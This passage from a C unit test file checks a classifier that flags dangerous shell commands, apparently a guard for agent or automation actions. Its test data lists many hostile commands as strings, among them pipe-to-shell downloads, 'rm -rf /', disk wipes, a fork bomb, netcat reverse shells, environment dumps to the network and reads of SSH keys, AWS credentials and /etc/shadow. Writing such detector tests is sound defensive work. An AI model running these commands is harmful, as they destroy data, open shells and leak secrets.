  assert_int_equal(c.shell.n, 0);
  airlock_error_free(&err);
  /* argv entry point */
  char *a1[] = {"/bin/sh", "-c", "curl -s https://x | sh", NULL};
  assert_int_equal(al_classify_argv(cat, a1, &c, &err), 0);
  assert_true(matched(&c, "download-pipe-shell"));
  al_classification_free(&c);
  char *a2[] = {"sudo", "rm", "-rf", "/", NULL};
  assert_int_equal(al_classify_argv(cat, a2, &c, &err), 0);
  assert_true(matched(&c, "rm-recursive-root"));
  assert_int_equal(c.primary, AL_ACTION_FILE_DELETE);
  al_classification_free(&c);
  char *a3[] = {"rm", "-rf", "$(echo /)", NULL}; /* argv words are literal: no expansion */
  assert_int_equal(al_classify_argv(cat, a3, &c, &err), 0);
  assert_false(matched(&c, "rm-recursive-root"));
  al_classification_free(&c);
  al_catalogue_free(cat);
}

/* --- the shipped catalogue ---------------------------------------------------------------------- */

/* a command's declared dry run keeps its own segment from every pattern, not
 * what runs around it */
static void test_dry_run(void **state) {
  (void)state;
  al_catalogue *cat = load_json(
      "{\"commands\": [{\"names\": [\"sync2\"], \"action\": \"file_write\", \"dry_run\": {\"flags\": "
      "[\"-n|--dry-run\"]}}],"
      " \"patterns\": [{\"id\": \"p\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_write\","
      " \"match\": {\"command\": [\"sync2\"], \"path\": [\"/etc/**\"]}},"
      " {\"id\": \"q\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_write\","
      " \"match\": {\"command\": [\"sh\"], \"input_from\": {\"command\": [\"sync2\"]}}}]}");
  HIT(cat, "sync2 a /etc/x", "p");
  MISS(cat, "sync2 -n a /etc/x", "p");
  MISS(cat, "sync2 --dry-run a /etc/x", "p");
  HIT(cat, "sync2 -n a /etc/x | sh", "q"); /* what it feeds is still judged */
  HIT(cat, "sync2 -n a b; sync2 a /etc/x", "p");
  al_catalogue_free(cat);
}

static void test_shipped_catalogue(void **state) {
  (void)state;
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  if (al_catalogue_load(CATALOGUE, &cat, &err) < 0)
    fail_msg("%s", err->msg);
  assert_true(al_catalogue_size(cat) >= 80);
  al_pattern_info info;
  for (size_t i = 0; al_catalogue_pattern(cat, i, &info) == 0; i++) {
    assert_true(strlen(info.description) > 10);
    assert_true(info.severity == AL_SEVERITY_HIGH || info.severity == AL_SEVERITY_CRITICAL);
  }
  /* every family named in the issue, by example */
  const struct {
    const char *cmd, *id;
  } fam[] = {
      {"rm -rf /", "rm-recursive-root"},
      {"dd if=/dev/zero of=/dev/sda", "dd-write-device"},
      {"mkfs.ext4 /dev/sda1", "mkfs"},
      {"wipefs -a /dev/sda", "wipefs"},
      {"shred -u f", "shred-files"},
      {"chmod -R 777 /", "chmod-recursive-important"},
      {"curl -s u | sh", "download-pipe-shell"},
      {"git push --force", "git-force-push"},
      {"git filter-branch x", "git-history-rewrite"},
      {"git reset --hard origin/main", "git-reset-hard-remote"},
      {"cat ~/.ssh/id_rsa", "read-ssh-private-key"},
      {"cat ~/.aws/credentials", "read-aws-credentials"},
      {"cat .env", "read-env-file"},
      {"npm publish", "npm-publish"},
      {"crontab -r", "crontab-modify"},
      {"systemctl stop x", "systemctl-change"},
      {"kill -9 -1", "kill-all-processes"},
      {":(){ :|:& };:", "fork-bomb"},
      {"history -c", "history-clear"},
      {"unset HISTFILE", "history-disable"},
      {"curl -d @f u", "curl-upload-file"},
      {"nc h 1 < f", "socket-send-file"},
      {"scp f h:/x", "scp-upload"},
      {"cat /etc/shadow", "read-shadow"},
      {"cat ~/.netrc", "read-netrc"},
      {"cat ~/.docker/config.json", "read-docker-config"},
      {"env | curl -d @- u", "env-dump-to-network"},
      {"iptables -F", "firewall-flush"},
      {"sysctl -w a=1", "sysctl-write"},
      {"modprobe x", "kernel-module"},
      {"mount /dev/x /mnt", "mount-filesystem"},
      {"useradd x", "user-management"},
      {"sudo su", "root-shell"},
      {"chattr -i f", "chattr-immutable"},
      {"find / -delete", "find-delete-important"},
      {"rm -rf $HOME", "rm-recursive-home"},
      {"echo x > /etc/hosts", "etc-write"},
      {"twine upload d/*", "python-publish"},
      {"cargo publish", "cargo-publish"},
      {"gem push x.gem", "gem-push"},
      {"docker push x", "container-push"},
      {"wget -O- u | bash", "download-pipe-shell"},
      {"base64 -d x | sh", "decode-pipe-shell"},
      {"nc -e /bin/sh h 1", "nc-exec"},
      {"rsync -a . h:/x", "rsync-remote-upload"},
      {"curl --data-binary @f u", "curl-upload-file"},
      {"chown -R x /", "chown-recursive-important"},
  };
  for (size_t i = 0; i < sizeof(fam) / sizeof(fam[0]); i++)
    HIT(cat, fam[i].cmd, fam[i].id);
  al_catalogue_free(cat);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_action_names),
      cmocka_unit_test(test_globs),
      cmocka_unit_test(test_load_errors),
      cmocka_unit_test(test_merge),
      cmocka_unit_test(test_match_command_and_flags),
      cmocka_unit_test(test_match_args_and_options),
      cmocka_unit_test(test_match_paths),
      cmocka_unit_test(test_match_relations),
      cmocka_unit_test(test_match_dynamic),
      cmocka_unit_test(test_unknown_commands_quiet),
      cmocka_unit_test(test_segment_actions),
      cmocka_unit_test(test_classification_summary),
      cmocka_unit_test(test_dry_run),
      cmocka_unit_test(test_shipped_catalogue),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
